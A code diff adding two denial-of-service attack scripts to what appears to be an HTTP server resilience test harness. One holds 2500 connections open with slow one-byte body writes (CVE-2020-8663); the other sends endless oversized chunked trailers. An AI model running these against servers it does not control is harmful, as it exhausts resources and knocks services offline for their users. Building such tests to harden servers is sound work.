@@ -71,6 +71,21 @@ def unsent_bodies(line: Line) -> Script:
     yield posted(line, "Content-Length: 10", "Expect: 100-continue")
 
 
+@attack(on=(*HTTP, *ADMIN), connections=2500)
+def busy_connections(line: Line) -> Script:
+    """CVE-2020-8663: more connections than the listener takes, each with a request in progress, so that none is idle: a byte
+    of its body comes every 9 s."""
+    yield posted(line, "Content-Length: 100")
+    yield from forever(b"x", 9.0)
+
+
+@attack(on=HTTP, connections=20)
+def long_trailers(line: Line) -> Script:
+    """RFC 9112, 7.1.2: trailers without end behind a chunk."""
+    yield posted(line, CHUNKED) + b"1\r\nx\r\n0\r\n"
+    yield from forever(b"X: " + b"y" * 8000 + b"\r\n")
+
+
 # ---- bodies ----
 
 
